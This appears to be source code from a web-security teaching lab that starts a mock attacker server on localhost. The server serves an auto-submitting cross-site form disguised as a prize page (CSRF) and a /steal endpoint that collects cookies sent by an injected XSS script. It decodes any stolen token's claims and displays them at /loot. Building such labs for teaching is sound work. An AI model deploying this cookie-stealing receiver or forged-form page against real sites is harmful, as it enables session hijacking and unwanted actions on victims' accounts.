// The attacker's site, served by the lab on a second port so the browser really sends cross-site
// requests (docs/attacks.md#csrf). It is opened as http://localhost:<port> while the lab is
// http://127.0.0.1:<port> (or the other way round): a different host is a different site, whereas
// two ports of one host are the same site.
//   GET /csrf?flow=session|jwt&action=logout|follow   a page that auto-submits one cross-site form
//   GET /steal?id=<nonce>&c=<document.cookie>         where the XSS payload sends what it read
//   GET /loot?id=<nonce>                              what was stolen, decoded
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { BoundedMap } from '../bounded-map.js';

export interface Loot {
  cookies: string; // document.cookie as the injected script saw it
  token: string | null; // a token cookie, when it was readable
  claims: Record<string, unknown> | null; // its decoded payload: in original-post mode, the password hash
}

export interface AttackerServer {
  server: Server;
  origin: string;
  close(): Promise<void>;
}

const FLOWS = new Set(['session', 'jwt']);
const ACTIONS: Record<string, string> = { logout: 'logout', follow: 'follow/mallory' };
const NONCE = /^[0-9a-f]{32}$/;

/** Starts the attacker's server on `port` (0: any free port) for the lab at `labOrigin`. */
export async function startAttacker(labOrigin: string, port = 0, tokenCookie = 'token'): Promise<AttackerServer> {
  const loot = new BoundedMap<string, Loot>(1000);
  const lab = new URL(labOrigin);
  // The other name for the loopback host, so the attacker is on another site than the lab.
  const host = lab.hostname === 'localhost' ? '127.0.0.1' : 'localhost';

  const server = createServer((req, res) => {
    handle(req, res).catch(() => send(res, 500, 'text/plain', 'The attacker page failed.\n'));
  });

  async function handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const url = new URL(req.url ?? '/', 'http://attacker.invalid');
    if (req.method !== 'GET') return send(res, 405, 'text/plain', 'Only GET here.\n');

    if (url.pathname === '/csrf') {
      const flow = url.searchParams.get('flow') ?? '';
      const action = ACTIONS[url.searchParams.get('action') ?? ''];
      if (!FLOWS.has(flow) || !action) return send(res, 400, 'text/plain', 'Give flow=session|jwt and action=logout|follow.\n');
      const target = new URL(`/api/${flow}/${action}`, lab).href;
      return send(res, 200, 'text/html', csrfPage(target));
    }

    if (url.pathname === '/steal') {
      const id = url.searchParams.get('id') ?? '';
      if (!NONCE.test(id)) return send(res, 400, 'text/plain', 'Bad id.\n');
      const cookies = (url.searchParams.get('c') ?? '').slice(0, 4096);
      const token = readCookie(cookies, tokenCookie);
      // The lab's original-post mode is per viewer (its `lab` cookie, which the script cannot read),
      // so the attacker keeps the token rather than replaying it here: the loot shows what it holds.
      loot.set(id, { cookies, token, claims: token ? decodePayload(token) : null });
      res.setHeader('Access-Control-Allow-Origin', lab.origin);
      return send(res, 204, 'text/plain', '');
    }

    if (url.pathname === '/loot') {
      const id = url.searchParams.get('id') ?? '';
      res.setHeader('Access-Control-Allow-Origin', lab.origin); // the lab's panel shows the loot
      return send(res, 200, 'application/json', JSON.stringify({ loot: NONCE.test(id) ? (loot.get(id) ?? null) : null }));
    }

    return send(res, 200, 'text/html', homePage());
  }

  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host === 'localhost' ? '127.0.0.1' : host, () => resolve());
  });
  const origin = `http://${host}:${(server.address() as AddressInfo).port}`;
  return {
    server,
    origin,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

function send(res: ServerResponse, status: number, type: string, body: string): void {
  res.writeHead(status, { 'Content-Type': `${type}; charset=utf-8`, 'Cache-Control': 'no-store' });
  res.end(status === 204 ? undefined : body);
}

function readCookie(header: string, name: string): string | null {
  for (const part of header.split(';')) {
    const eq = part.indexOf('=');
    if (eq > 0 && part.slice(0, eq).trim() === name) return safeDecode(part.slice(eq + 1).trim());
  }
  return null;
}

// A cookie value with a stray % is kept as it came, not turned into a 500.
function safeDecode(value: string): string {
  try {
    return decodeURIComponent(value);
  } catch {
    return value;
  }
}

function decodePayload(token: string): Record<string, unknown> | null {
  try {
    return JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString('utf8')) as Record<string, unknown>;
  } catch {
    return null;
  }
}

/**
 * Starts the attacker page next to a lab that has just started listening, and says where it is (or
 * why not): the lab runs fine without it. Resolves to its origin, or null.
 */
export function announceAttacker(labOrigin: string, port: number): Promise<string | null> {
  return startAttacker(labOrigin, port).then(
    (attacker) => {
      console.log(`Attacker page for the CSRF and XSS scenarios: ${attacker.origin}`);
      return attacker.origin;
    },
    (err: NodeJS.ErrnoException) => {
      console.warn(`The attacker page could not start (${err.code ?? err.message}); set ATTACKER_PORT to a free port.`);
      return null;
    },
  );
}

const ESCAPES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };
const escapeHtml = (text: string) => text.replace(/[&<>"']/g, (c) => ESCAPES[c] ?? c);

// A top-level form POST: the one cross-site request current Chromium still sends cookies with
// (fetch and iframes from another site get no cookies at all, whatever their SameSite).
function csrfPage(target: string): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>You won a prize!</title></head>
<body>
<h1>You won a prize!</h1>
<p>This page is on another site. It is submitting a form to <code>${escapeHtml(target)}</code> with no body;
your browser decides whether your cookies go with it.</p>
<form id="attack" method="POST" action="${escapeHtml(target)}"></form>
<script>document.getElementById('attack').submit();</script>
</body></html>
`;
}

function homePage(): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>The attacker's site</title></head>
<body><h1>The attacker's site</h1>
<p>The lab's attack panel opens pages from here. See docs/attacks.md in the lab's repository.</p>
</body></html>
`;
}
